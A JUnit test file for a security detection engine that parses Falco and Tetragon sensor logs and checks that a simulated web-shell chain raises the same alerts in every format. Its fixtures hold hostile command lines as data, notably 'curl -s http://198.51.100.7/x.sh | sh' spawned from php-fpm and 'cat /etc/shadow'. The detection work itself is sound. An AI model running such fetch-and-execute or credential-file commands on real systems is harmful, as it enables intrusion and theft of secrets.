package dev.vigil.ingest.sensor;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.catalogue.AlertCatalogue;
import dev.vigil.detect.Detection;
import dev.vigil.engine.Engine;
import dev.vigil.engine.ScanListener;
import dev.vigil.engine.SourceStats;
import dev.vigil.event.Event;
import dev.vigil.event.ProcessStart;
import dev.vigil.ingest.formats.Formats;
import dev.vigil.ingest.Line;
import dev.vigil.ingest.LineFormat;
import dev.vigil.ingest.formats.Sniffer;
import dev.vigil.ingest.Source;
import dev.vigil.ingest.process.ProcessGolden;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class SensorFormatsTest {

    @Test
    void falcoGolden() {
        ProcessGolden.check(FalcoFormat.INSTANCE, "falco", "events");
    }

    @Test
    void tetragonGolden() {
        ProcessGolden.check(TetragonFormat.INSTANCE, "tetragon", "events");
    }

    @Test
    void namesResolve() {
        assertThat(Formats.forName("falco")).containsSame(FalcoFormat.INSTANCE);
        assertThat(Formats.forName("tetragon")).containsSame(TetragonFormat.INSTANCE);
        assertThat(Formats.NAMES).contains("falco", "tetragon");
    }

    @Test
    void sniffedEvenWhenFewLinesAreProcessStarts() {
        // a Falco log of file alerts with one spawn, and a Tetragon log of exits and kprobes
        StringBuilder falco = new StringBuilder();
        StringBuilder tetragon = new StringBuilder();
        for (int i = 0; i < 30; i++) {
            falco.append("{\"hostname\":\"h\",\"output\":\"o\",\"rule\":\"Read sensitive file\",\"source\":\"syscall\","
                    + "\"time\":\"2026-11-01T10:00:00Z\",\"output_fields\":{\"evt.type\":\"openat\",\"fd.name\":\"/etc/shadow\","
                    + "\"proc.cmdline\":\"cat /etc/shadow\"}}\n");
            tetragon.append("{\"process_exit\":{\"process\":{\"pid\":").append(i).append(",\"binary\":\"/bin/true\"},"
                    + "\"status\":0},\"node_name\":\"n\",\"time\":\"2026-11-01T10:00:00Z\"}\n");
        }
        assertThat(sniff(falco.toString())).isSameAs(FalcoFormat.INSTANCE);
        assertThat(sniff(tetragon.toString())).isSameAs(TetragonFormat.INSTANCE);
    }

    @Test
    void otherJsonFormatsAreNotTakenForSensors() {
        String processJson = "{\"time\":\"2026-11-01T00:00:00Z\",\"host\":\"web1\",\"pid\":4242,\"ppid\":911,"
                + "\"exe\":\"/usr/bin/curl\",\"cmdline\":\"curl -s http://x/a.sh\"}\n";
        assertThat(sniff(processJson.repeat(25)).name()).isEqualTo("process-json");
        List<String> rejects = new ArrayList<>();
        assertThat(FalcoFormat.INSTANCE.parse(Line.of("p", 1, processJson.trim()), rejects::add)).isNull();
        assertThat(TetragonFormat.INSTANCE.parse(Line.of("p", 1, processJson.trim()), rejects::add)).isNull();
        assertThat(rejects).hasSize(2);
    }

    @Test
    void hostileLinesNeverThrowAndAreRejectedOnce() {
        Random r = new Random(13);
        List<String> seeds = List.of(
                "{\"output_fields\":{\"evt.type\":\"execve\",\"proc.cmdline\":\"sh\"},\"rule\":\"r\"}",
                "{\"process_exec\":{\"process\":{\"pid\":1,\"binary\":\"/bin/sh\",\"arguments\":\"-c id\"},"
                        + "\"parent\":{\"pid\":0}},\"node_name\":\"n\",\"time\":\"2026-11-01T10:00:00Z\"}");
        for (LineFormat f : List.of(FalcoFormat.INSTANCE, TetragonFormat.INSTANCE)) {
            for (int i = 0; i < 5000; i++) {
                byte[] b = seeds.get(i % 2).getBytes(StandardCharsets.UTF_8);
                int cut = r.nextInt(b.length + 1);
                byte[] m = java.util.Arrays.copyOf(b, cut);
                for (int k = 0; k < 3 && m.length > 0; k++) {
                    m[r.nextInt(m.length)] = (byte) r.nextInt(256);
                }
                Line line = new Line();
                line.set(m, 0, m.length, "fuzz", 1, 0);
                List<String> rejects = new ArrayList<>();
                Event e = f.newParser().parse(line, rejects::add);
                assertThat(rejects.size()).as("one reject at most").isLessThanOrEqualTo(1);
                if (e != null) {
                    assertThat(rejects).isEmpty();
                }
            }
        }
    }

    @Test
    void hugeFieldsAndDeepNestingAreReadOrRejected() {
        String big = "A".repeat(1 << 20);
        List<String> rejects = new ArrayList<>();
        Event e = FalcoFormat.INSTANCE.parse(Line.of("h", 1, "{\"rule\":\"r\",\"output_fields\":{\"evt.type\":\"execve\","
                + "\"proc.cmdline\":\"" + big + "\"}}"), rejects::add);
        assertThat(((ProcessStart) e).commandLine()).hasSize(1 << 20);
        String deep = "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);
        assertThat(TetragonFormat.INSTANCE.parse(Line.of("h", 2, deep), rejects::add)).isNull();
        assertThat(rejects).containsExactly("JSON nested too deeply or with a value too long to read");
    }

    @Test
    void aWebShellSeenByFalcoOrTetragonRaisesTheSameAlertsAsProcessJson() throws Exception {
        // the same php-fpm -> sh -> curl|sh chain, written by three sensors
        String pj = """
                {"time":"2026-11-01T10:00:00Z","host":"node-1","pid":100,"ppid":1,"exe":"/usr/sbin/php-fpm8.2","cmdline":"php-fpm: pool www","user":"www-data"}
                {"time":"2026-11-01T10:00:01Z","host":"node-1","pid":101,"ppid":100,"exe":"/bin/sh","cmdline":"sh -c curl -s http://198.51.100.7/x.sh | sh","parent_exe":"/usr/sbin/php-fpm8.2","user":"www-data"}
                {"time":"2026-11-01T10:00:02Z","host":"node-1","pid":102,"ppid":101,"exe":"/usr/bin/curl","cmdline":"curl -s http://198.51.100.7/x.sh","parent_exe":"/bin/sh","user":"www-data"}
                """;
        String falco = """
                {"hostname":"node-1","output":"o","rule":"Vigil process start","source":"syscall","time":"2026-11-01T10:00:00Z","output_fields":{"evt.type":"execve","proc.pid":100,"proc.ppid":1,"proc.exepath":"/usr/sbin/php-fpm8.2","proc.cmdline":"php-fpm: pool www","user.name":"www-data"}}
                {"hostname":"node-1","output":"o","rule":"Vigil process start","source":"syscall","time":"2026-11-01T10:00:01Z","output_fields":{"evt.type":"execve","proc.pid":101,"proc.ppid":100,"proc.exepath":"/bin/sh","proc.cmdline":"sh -c curl -s http://198.51.100.7/x.sh | sh","proc.pexepath":"/usr/sbin/php-fpm8.2","user.name":"www-data"}}
                {"hostname":"node-1","output":"o","rule":"Vigil process start","source":"syscall","time":"2026-11-01T10:00:02Z","output_fields":{"evt.type":"execve","proc.pid":102,"proc.ppid":101,"proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -s http://198.51.100.7/x.sh","proc.pexepath":"/bin/sh","user.name":"www-data"}}
                """;
        String tetragon = """
                {"process_exec":{"process":{"pid":100,"binary":"/usr/sbin/php-fpm8.2","arguments":"--nodaemonize","user":{"name":"www-data"}},"parent":{"pid":1,"binary":"/sbin/init"}},"node_name":"node-1","time":"2026-11-01T10:00:00Z"}
                {"process_exec":{"process":{"pid":101,"binary":"/bin/sh","arguments":"-c \\"curl -s http://198.51.100.7/x.sh | sh\\"","user":{"name":"www-data"}},"parent":{"pid":100,"binary":"/usr/sbin/php-fpm8.2"}},"node_name":"node-1","time":"2026-11-01T10:00:01Z"}
                {"process_exec":{"process":{"pid":102,"binary":"/usr/bin/curl","arguments":"-s http://198.51.100.7/x.sh","user":{"name":"www-data"}},"parent":{"pid":101,"binary":"/bin/sh"}},"node_name":"node-1","time":"2026-11-01T10:00:02Z"}
                """;
        Set<String> expected = alertTypes("pj", pj);
        assertThat(expected).contains("WebShellActivity");
        assertThat(alertTypes("falco", falco)).isEqualTo(expected);
        assertThat(alertTypes("tetragon", tetragon)).isEqualTo(expected);
    }

    private static Set<String> alertTypes(String name, String content) throws InterruptedException {
        Engine engine = Engine.builder().defaultDetectors(AlertCatalogue.builtIn()).threads(2).build();
        List<Detection> out = new ArrayList<>();
        List<SourceStats> stats = new ArrayList<>();
        engine.scan(List.of(Source.of(name, content.getBytes(StandardCharsets.UTF_8))), new ScanListener() {
            @Override
            public void onDetection(Detection d) {
                out.add(d);
            }

            @Override
            public void onSourceDone(SourceStats s) {
                stats.add(s);
            }
        });
        assertThat(stats.get(0).rejected()).isZero();
        for (Detection d : out) {
            assertThat(((ProcessStart) d.event()).host()).isEqualTo("node-1");
        }
        return out.stream().map(d -> d.type().name()).collect(Collectors.toCollection(TreeSet::new));
    }

    private static LineFormat sniff(String s) {
        byte[] b = s.getBytes(StandardCharsets.UTF_8);
        return Sniffer.sniff(b, b.length).format();
    }
}
